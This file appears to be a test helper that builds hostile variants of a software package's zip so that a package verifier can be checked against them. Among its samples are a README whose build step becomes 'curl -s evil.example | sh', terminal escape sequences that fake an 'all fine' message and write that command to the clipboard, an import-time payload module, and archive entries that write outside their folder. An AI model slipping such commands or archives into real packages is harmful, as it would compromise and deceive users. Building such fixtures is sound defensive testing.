"""Writes the zips that the package test hands the verifier, each ROWS/<row>/<name>.zip,
built from the genuine package as an attacker would.
  hostile_zips.py GENUINE_ZIP SIGNED_IMAGE SHA1_SIGNED_IMAGE ROWS MARKS OUTSIDE DANGLING STRANGER
                  OLDER
SIGNED_IMAGE, SHA1_SIGNED_IMAGE: the package's image, signed with SHA-256 and with
SHA-1; MARKS: where a payload that ran leaves its mark; OUTSIDE: where a zip tries
to write; DANGLING, STRANGER, OLDER: commits of the verifier's clone on no branch,
on another branch than main, and on main declaring an older version.
"""

import os
import shutil
import stat
import struct
import sys
import zipfile

(genuine_zip, signed_image, sha1_signed_image, rows, marks, outside, dangling, stranger,
 older) = sys.argv[1:]
name = os.path.basename(genuine_zip)[:-len(".zip")]
with zipfile.ZipFile(genuine_zip) as archive:
    GENUINE = [(info.filename, archive.read(info)) for info in archive.infolist()]
with open(signed_image, "rb") as file:
    SIGNED = file.read()
with open(sha1_signed_image, "rb") as file:
    SHA1_SIGNED = file.read()
FILE, FOLDER, LINK = stat.S_IFREG | 0o644, stat.S_IFDIR | 0o755, stat.S_IFLNK | 0o777
# A payload: a Python module that leaves its mark where it is imported.
PAYLOAD = f"open({marks + '/python-payload'!r}, 'w').write('ran')\n".encode()
ESCAPES = "\x1b[2K\x1b[1Greproduced: all fine\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
OTHER_PROGRAM = b"MZ another program"


def write(row, entries):
    """entries: (name, bytes or None for a folder, mode or None, extra field or b"")"""
    os.makedirs(f"{rows}/{row}")
    with zipfile.ZipFile(f"{rows}/{row}/{name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, content, mode, extra in entries:
            info = zipfile.ZipInfo(entry, (2024, 1, 1, 0, 0, 0))
            folder = content is None
            info.external_attr = (mode or (FOLDER if folder else FILE)) << 16 | (0x10 if folder
                                                                                   else 0)
            info.compress_type = zipfile.ZIP_STORED if folder else zipfile.ZIP_DEFLATED
            info.extra = extra
            archive.writestr(info, b"" if folder else content)


def package(changes=None, extra=()):
    """The genuine entries, some changed ({name below the folder: bytes}), more added."""
    changes = changes or {}
    entries = []
    for entry, content in GENUINE:
        inner = entry.split("/", 1)[1]
        folder = entry.endswith("/")
        entries.append((entry, None if folder else changes.get(inner, content), None, b""))
    return entries + list(extra)


def genuine(inner):
    return next(content for entry, content in GENUINE if entry == f"{name}/{inner}")


def buildinfo(**fields):
    lines = genuine("BUILDINFO").decode().splitlines(keepends=True)
    for key, value in fields.items():
        key = key.replace("_", "-")
        lines = [f"{key}: {value}\n" if line.startswith(key + ": ") else line for line in lines]
    return {"BUILDINFO": "".join(lines).encode()}


def flipped(content, offset):
    changed = bytearray(content)
    changed[offset] ^= 0xFF
    return bytes(changed)


def signature_end(image):
    """Offset of the last byte of the signature's DER, its signature value."""
    header = struct.unpack_from("<I", image, 0x3C)[0]
    magic = struct.unpack_from("<H", image, header + 24)[0]
    security = header + 24 + (96 if magic == 0x10B else 112) + 4 * 8
    table = struct.unpack_from("<I", image, security)[0]
    blob = image[table + 8:]
    count = blob[1] & 0x7F if blob[1] & 0x80 else 0
    length = int.from_bytes(blob[2:2 + count], "big") if count else blob[1]
    return table + 8 + 2 + count + length - 1


def unicode_path(target):  # Info-ZIP's Unicode path field: version, CRC of the name, name
    return lambda entry: struct.pack("<HHBI", 0x7075, 5 + len(target), 1,
                                     zipfile.crc32(entry.encode())) + target.encode()


image = f"{name}/zarvel-uri.exe"
renamed, replacing = unicode_path(f"{image}.orig"), unicode_path(image)
for row in ("genuine", "terminated"):  # the package as built, byte for byte
    os.makedirs(f"{rows}/{row}")
    shutil.copy(genuine_zip, f"{rows}/{row}/{name}.zip")
write("hostile-environment", package({"zarvel-uri.exe": SIGNED}))
write("module-in-folder", package(extra=[("license_expression.py", PAYLOAD, None, b"")]))
write("unicode-path", [(e, c, m, renamed(e) if e == image else x)
                       for e, c, m, x in package()] +
      [(f"{name}/other.exe", OTHER_PROGRAM, None, replacing(f"{name}/other.exe"))])
write("case-twin", package(extra=[(f"{name}/ZARVEL-URI.EXE", OTHER_PROGRAM, None, b"")]))
write("dangling-commit", package(buildinfo(Commit=dangling)))
write("stranger-branch", package(buildinfo(Commit=stranger)))
write("older-version", package(buildinfo(Version="0.9.0", Commit=older)))
write("undeclared-version", package(buildinfo(Commit=older)))
write("broken-signature", package({"zarvel-uri.exe": flipped(SIGNED, signature_end(SIGNED))}))
write("sha1-signature", package({"zarvel-uri.exe": SHA1_SIGNED}))
write("signed-changed", package({"zarvel-uri.exe": flipped(SIGNED, len(SIGNED) // 4)}))
write("altered-debug", package({"zarvel-uri.exe.debug": flipped(
    genuine("zarvel-uri.exe.debug"), 4096)}))
readme = genuine("README.md")
instruction = b"bash tools/run.sh"
assert instruction in readme, "the README no longer says " + instruction.decode()
write("altered-readme", package({"README.md": readme.replace(
    instruction, f"curl -s evil.example | sh {ESCAPES}".encode(), 1)}))
write("extra-program", package(extra=[(f"{name}/zarvel-uri.com", OTHER_PROGRAM, None, b"")]))
write("escaped-field", package(buildinfo(Commit=ESCAPES)))
write("escaped-name", package(extra=[(f"{name}/{ESCAPES}", OTHER_PROGRAM, None, b"")]))
write("many-packages", package({"BUILDINFO": genuine("BUILDINFO") + b"Package: cmake 1\n" *
                                5_000_000}))
write("big-bill", package({"zarvel-uri.cdx.json": b" " * (100 << 20) + b"{}\n"}))
write("many-folders", package(extra=[(f"{name}/f{i}/", None, None, b"")
                                     for i in range(180_000)]))
write("native-preset", package(buildinfo(Preset="native")))
write("no-buildinfo", [e for e in package() if not e[0].endswith("/BUILDINFO")])
# Zips that try to write outside their folder: through a link they hold, a
# link in their place, an absolute name, a name that climbs out.
write("through-link", package(extra=[(f"{name}/logs", outside.encode(), LINK, b""),
                                     (f"{name}/logs/planted", b"planted\n", None, b"")]))
write("link", [(e, outside.encode() + b"/BUILDINFO", LINK, x) if e.endswith("/BUILDINFO")
               else (e, c, m, x) for e, c, m, x in package()])
write("absolute", package(extra=[(f"{outside}/planted", b"planted\n", None, b"")]))
write("climbing", package(extra=[(f"{name}/{'../' * 32}{outside[1:]}/planted", b"planted\n",
                                  None, b"")]))
os.makedirs(f"{rows}/fifo")
os.mkfifo(f"{rows}/fifo/{name}.zip")
